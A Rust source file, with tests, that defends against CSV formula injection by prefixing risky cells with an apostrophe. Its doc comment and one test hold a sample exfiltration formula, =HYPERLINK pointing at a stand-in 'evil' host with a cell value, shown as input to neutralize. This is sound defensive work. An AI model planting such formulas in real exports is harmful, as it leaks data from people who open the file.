//! CSV cells that a spreadsheet would not run as a formula (OWASP's CSV injection rule).
//!
//! A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
//! LibreOffice and Google Sheets as a formula (`=HYPERLINK("http://evil/?x="&A1)` sends the
//! row away when clicked). Such a cell gets a leading `'`, which spreadsheets show as text and
//! do not display. Every CSV the product writes passes its text cells through here; numbers it
//! computes itself (scores, counts, line numbers) are written as they are.

use std::borrow::Cow;

/// Whether a cell starting with this byte would be read as a formula.
fn is_trigger(first: u8) -> bool {
    matches!(first, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
}

/// The cell as text a spreadsheet will not evaluate: prefixed with `'` when it starts with a
/// formula character, else unchanged (and not copied).
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(&b) if is_trigger(b) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// [`neutralize`] for raw bytes (input rows that may not be UTF-8).
pub fn neutralize_bytes(cell: &[u8]) -> Cow<'_, [u8]> {
    match cell.first() {
        Some(&b) if is_trigger(b) => {
            let mut out = Vec::with_capacity(cell.len() + 1);
            out.push(b'\'');
            out.extend_from_slice(cell);
            Cow::Owned(out)
        }
        _ => Cow::Borrowed(cell),
    }
}

/// A record with every field neutralized.
pub fn neutralize_record(record: &csv::ByteRecord) -> csv::ByteRecord {
    let mut out =
        csv::ByteRecord::with_capacity(record.as_slice().len() + record.len(), record.len());
    for field in record {
        out.push_field(&neutralize_bytes(field));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_quote_and_others_stay_as_they_are() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://evil/?x=\"&A1)",
                "'=HYPERLINK(\"http://evil/?x=\"&A1)",
            ),
            ("+91 98000", "'+91 98000"),
            ("-12.5", "'-12.5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
        ] {
            assert_eq!(neutralize(cell), want);
            assert_eq!(neutralize_bytes(cell.as_bytes()).as_ref(), want.as_bytes());
        }
        for cell in ["", "C1", "Asha", " =1", "a=b", "'=1", "12.5", "é=", "\n=1"] {
            assert!(
                matches!(neutralize(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
            assert!(
                matches!(neutralize_bytes(cell.as_bytes()), Cow::Borrowed(c) if c == cell.as_bytes()),
                "{cell:?}"
            );
        }
        // Not UTF-8: still checked by its first byte.
        assert_eq!(neutralize_bytes(b"=\xff").as_ref(), b"'=\xff");
    }

    #[test]
    fn records_are_neutralized_field_by_field_and_read_back_as_text() {
        let record = csv::ByteRecord::from(vec!["=1+1", "ok", "-3", "@x", ""]);
        let safe = neutralize_record(&record);
        assert_eq!(
            safe,
            csv::ByteRecord::from(vec!["'=1+1", "ok", "'-3", "'@x", ""])
        );
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_byte_record(&safe).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "'=1+1,ok,'-3,'@x,\n");
    }
}
